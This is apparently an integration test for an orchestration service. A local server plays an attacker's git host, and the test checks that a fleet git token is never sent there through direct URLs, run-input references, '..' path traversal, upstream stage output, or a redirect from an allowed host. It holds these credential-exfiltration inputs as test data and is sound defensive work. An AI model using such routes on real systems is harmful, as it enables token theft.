/**
 * Attack (issue 14, finding 1): a submitter aims the fleet's git token at a host it controls, by
 * naming it directly, by routing the URL through an upstream stage's output (unknown at submit), or
 * through a redirect from an allowed host; another submitter names a secret its role may not use.
 * A local HTTP server plays the attacker's git host and records every Authorization header it gets.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { ApiErrorBody, CreatedKey, RunList, RunView } from '@baton/contracts';
import { ENTRYPOINTS, REPO_ROOT, spawnAgent, spawnOrchestrator, useTestStack, waitFor } from '@baton/testing';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { describeRun, scratch, stageOf, startSdlcAgents } from '../sdlc-support.js';

const stack = useTestStack();
const BOOTSTRAP = `boot-${'s'.repeat(40)}`;
const TOKEN = 'ghp_fleetToken0123456789abcdef';
const EXPECTED_AUTH = `Basic ${Buffer.from(`git:${TOKEN}`).toString('base64')}`;

/** A git host that answers every request with a Basic challenge (or `route`), recording Authorization headers. */
async function gitHost(route?: (req: IncomingMessage) => { status: number; headers: Record<string, string> } | null): Promise<{ url: string; auth: string[]; hits: string[]; server: Server }> {
  const auth: string[] = [];
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    if (req.headers.authorization) auth.push(req.headers.authorization);
    const r = route?.(req);
    if (r) return void res.writeHead(r.status, r.headers).end();
    res.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end('auth required');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  stack.defer(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, auth, hits, server };
}

const scaffold = (repository: unknown, extra: Record<string, unknown> = {}) => ({
  name: 'scaffold',
  agent: 'scaffold',
  input: { name: 'app', template: 'ts-library', repository, credentialRef: 'BATON_SECRET_GIT_TOKEN', ...extra },
});

describe('attack: a fleet secret sent to a host the submitter chooses', () => {
  it('is refused at submit (403, nothing enqueued) and again by the agent; redirects do not carry it; the scoped host gets it', async () => {
    const attacker = await gitHost();
    const trusted = await gitHost((req) => (req.url?.startsWith('/acme/moved.git') ? { status: 302, headers: { location: `${attacker.url}/stolen.git/info/refs?service=git-upload-pack` } } : null));
    const scope = `urls=${trusted.url}/acme/;role=operator`;
    const h = await stack.harness(); // the namespace the spawned processes share
    const orch = await spawnOrchestrator(stack.redis.url, h.ns, { BATON_AUTH: 'required', BATON_BOOTSTRAP_ADMIN_KEY: BOOTSTRAP, BATON_SECRET_GIT_TOKEN_SCOPE: scope });
    stack.defer(() => orch.kill());
    const root = scratch(stack, 'attack-secret-scope');
    // The agents hold the token and declare the same scope as the orchestrator.
    await startSdlcAgents(stack, h, root, ['scaffold'], { BATON_SECRET_GIT_TOKEN: TOKEN, BATON_SECRET_GIT_TOKEN_SCOPE: scope, BATON_SECRET_UNSCOPED: 'x'.repeat(24) });
    const noop = await spawnAgent(join(REPO_ROOT, ENTRYPOINTS.noop), stack.redis.url, h.ns);
    stack.defer(() => noop.kill('SIGTERM').then(() => undefined));

    const key = async (role: string) => {
      const res = await fetch(`${orch.url}/v1/keys`, { method: 'POST', headers: { authorization: `Bearer ${BOOTSTRAP}`, 'content-type': 'application/json' }, body: JSON.stringify({ name: role, role }) });
      expect(res.status).toBe(201);
      return ((await res.json()) as CreatedKey).key;
    };
    const operator = await key('operator');
    const submitter = await key('submitter');
    const submit = async (as: string, stages: unknown[]) => {
      const res = await fetch(`${orch.url}/v1/runs`, { method: 'POST', headers: { authorization: `Bearer ${as}`, 'content-type': 'application/json' }, body: JSON.stringify({ definition: { stages } }) });
      return { status: res.status, body: (await res.json()) as RunView & ApiErrorBody };
    };

    // 1. Straight at the attacker: 403 naming the secret and the reason.
    const direct = await submit(operator, [scaffold(`${attacker.url}/x.git`)]);
    expect(direct.status).toBe(403);
    expect(direct.body.error.code).toBe('SECRET_SCOPE_DENIED');
    expect(direct.body.error.message).toContain('BATON_SECRET_GIT_TOKEN');
    expect(direct.body.error.message).toContain(`may not be sent to ${attacker.url}/x.git`);
    // ... also hidden behind a run-input reference, or with `..` segments out of the prefix.
    const viaInput = await fetch(`${orch.url}/v1/runs`, {
      method: 'POST',
      headers: { authorization: `Bearer ${operator}`, 'content-type': 'application/json' },
      body: JSON.stringify({ definition: { stages: [scaffold({ $from: 'input.repo' })] }, input: { repo: `${attacker.url}/y.git` } }),
    });
    expect(viaInput.status).toBe(403);
    expect((await submit(operator, [scaffold(`${trusted.url}/acme/../evil/x.git`)])).status).toBe(403);
    // 2. A role the scope does not name, and a secret without any scope.
    const wrongRole = await submit(submitter, [scaffold(`${trusted.url}/acme/app.git`)]);
    expect(wrongRole.status).toBe(403);
    expect(wrongRole.body.error.message).toMatch(/BATON_SECRET_GIT_TOKEN may not be used by key [0-9a-f]+ \(role submitter\)/);
    const unscoped = await submit(operator, [scaffold(`${trusted.url}/acme/app.git`, { credentialRef: 'BATON_SECRET_UNSCOPED' })]);
    expect(unscoped.status).toBe(403);
    expect(unscoped.body.error.message).toContain('BATON_SECRET_UNSCOPED has no scope');
    // Nothing was stored or enqueued by any of them.
    const listed = (await (await fetch(`${orch.url}/v1/runs`, { headers: { authorization: `Bearer ${operator}` } })).json()) as RunList;
    expect(listed.items).toEqual([]);
    expect(await h.engine.ctx.redis.llen(`${h.keys.bullPrefix}:scaffold:wait`)).toBe(0);

    // 3. The URL arrives from an upstream stage's output (unknown at submit): the agent refuses.
    const routed = await submit(operator, [
      { name: 'a', agent: 'noop', input: { echo: `${attacker.url}/routed.git` } },
      { ...scaffold({ $from: 'stages.a.output.echo' }), dependsOn: ['a'] },
    ]);
    expect(routed.status).toBe(202);
    const routedRun = await waitRun(orch.url, operator, routed.body.id);
    expect(stageOf(routedRun, 'scaffold').error, describeRun(routedRun)).toMatchObject({ code: 'SECRET_SCOPE_DENIED', retryable: false });

    // 4. An allowed URL that redirects to the attacker: git does not follow it with the token.
    const moved = await submit(operator, [scaffold(`${trusted.url}/acme/moved.git`)]);
    expect(moved.status).toBe(202);
    const movedRun = await waitRun(orch.url, operator, moved.body.id);
    expect(movedRun.status, describeRun(movedRun)).toBe('failed');

    // 5. The legitimate use: the scoped host is asked, and gets the token.
    const legit = await submit(operator, [scaffold(`${trusted.url}/acme/app.git`)]);
    expect(legit.status, JSON.stringify(legit.body)).toBe(202);
    await waitRun(orch.url, operator, legit.body.id);
    expect(trusted.auth).toContain(EXPECTED_AUTH);

    expect(attacker.auth, 'the attacker received credentials').toEqual([]);
  }, 180_000);
});

async function waitRun(url: string, key: string, id: string): Promise<RunView> {
  return waitFor(
    async () => {
      const r = (await (await fetch(`${url}/v1/runs/${id}`, { headers: { authorization: `Bearer ${key}` } })).json()) as RunView;
      return ['succeeded', 'failed', 'cancelled'].includes(r.status) ? r : undefined;
    },
    { timeoutMs: 90_000, what: `run ${id}` },
  );
}
